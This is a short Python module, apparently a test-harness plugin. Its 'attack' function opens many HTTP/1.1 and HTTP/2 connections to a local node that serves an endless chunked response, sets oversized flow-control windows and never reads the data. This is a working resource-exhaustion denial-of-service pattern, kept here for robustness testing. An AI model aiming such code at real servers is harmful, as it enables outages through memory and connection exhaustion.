"""Clients that ask for an answer without end, on both protocols, and take none of it."""
import struct
import time

from frames import WINDOW_UPDATE, frame, head, opened, send
from plugin import register

CHUNK = b"8000\r\n" + b"x" * 0x8000 + b"\r\n"
REQUEST = b"GET /api/v1/endless/x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


def endless(client):
    client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
    while True:
        client.sendall(CHUNK)


def attack(node):
    register(node, "endless", endless)
    held = []
    for _ in range(100):
        client = node.connect()
        client.sendall(REQUEST)
        held.append(client)
    for _ in range(10):
        client = opened(node, struct.pack(">HI", 4, 0x7FFFFFFF))
        send(client, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7F000000)))
        for stream in range(1, 100, 2):
            send(client, head(stream, "GET", "/api/v1/endless/x"))
        held.append(client)
    time.sleep(5)
    return held
